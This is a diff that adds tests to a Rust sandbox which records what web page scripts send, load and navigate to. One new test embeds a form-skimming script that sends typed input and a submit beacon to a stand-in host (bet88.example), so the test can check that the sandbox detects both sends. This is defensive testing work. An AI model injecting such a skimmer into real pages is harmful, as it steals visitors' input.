@@ -1,6 +1,6 @@
 //! What is told of what scripts build, hide, load and send.
 
-use canhcong::sandbox::{Job, Sandbox, Source};
+use canhcong::sandbox::{Job, Sandbox, Source, Trigger};
 
 use super::{PAGE, job, page, run, said, sandbox};
 
@@ -88,6 +88,28 @@ fn requests_are_told_and_never_made() {
     );
     assert_eq!(ran.loads[0].kind, "worker");
     assert_eq!(said(&ran), ["error 0"]);
+}
+
+#[test]
+fn what_is_typed_into_a_form_is_sent_elsewhere() {
+    let ran = run(
+        "document.forms[0].q.onblur=function(){new Image().src='https://bet88.example/k?'+this.value};\
+         document.forms[0].onsubmit=function(){navigator.sendBeacon('https://bet88.example/s');location='/tim?q=x'}",
+    );
+    let sent: Vec<&str> = ran.sent.iter().map(|sent| sent.target.as_str()).collect();
+    assert_eq!(sent, ["https://bet88.example/k?x", "https://bet88.example/s"]);
+    assert_eq!(ran.sent[0].cause.trigger, Trigger::Form);
+    assert!(ran.navigations.is_empty(), "where a form leads is the visitor's choice");
+}
+
+#[test]
+fn a_way_out_after_a_failed_request_is_told_as_such() {
+    let page = "<script>fetch('/a').catch(function(){location='/error.html'})</script>\
+        <script>location='https://bet88.example/'</script>";
+    let ran = sandbox(1).run(&Job::of_markup(PAGE, page, &[]));
+    let ways: Vec<(&str, bool)> =
+        ran.navigations.iter().map(|fact| (fact.target.as_str(), fact.after_failure)).collect();
+    assert_eq!(ways, [("https://bet88.example/", false), ("http://portal.test/error.html", true)]);
 }
 
 #[test]
